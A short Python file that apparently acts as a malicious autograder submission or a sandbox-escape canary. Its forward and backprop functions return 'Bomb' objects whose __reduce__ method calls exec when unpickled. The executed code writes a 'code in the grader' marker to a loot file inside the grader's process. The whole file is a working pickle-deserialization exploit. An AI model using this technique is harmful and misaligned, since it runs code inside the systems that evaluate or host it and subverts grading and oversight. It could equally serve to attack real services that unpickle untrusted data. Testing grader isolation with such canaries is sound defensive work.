class Bomb:
    def __reduce__(self):
        return (exec, (f"""
import multiprocessing, os
if multiprocessing.parent_process() is None:
    open(os.path.join({LOOT!r}, 'loot.txt'), 'a').write('code in the grader')
""",))


def forward(x):
    return Bomb()


def backprop(x):
    return (Bomb(), Bomb(), Bomb(), Bomb())
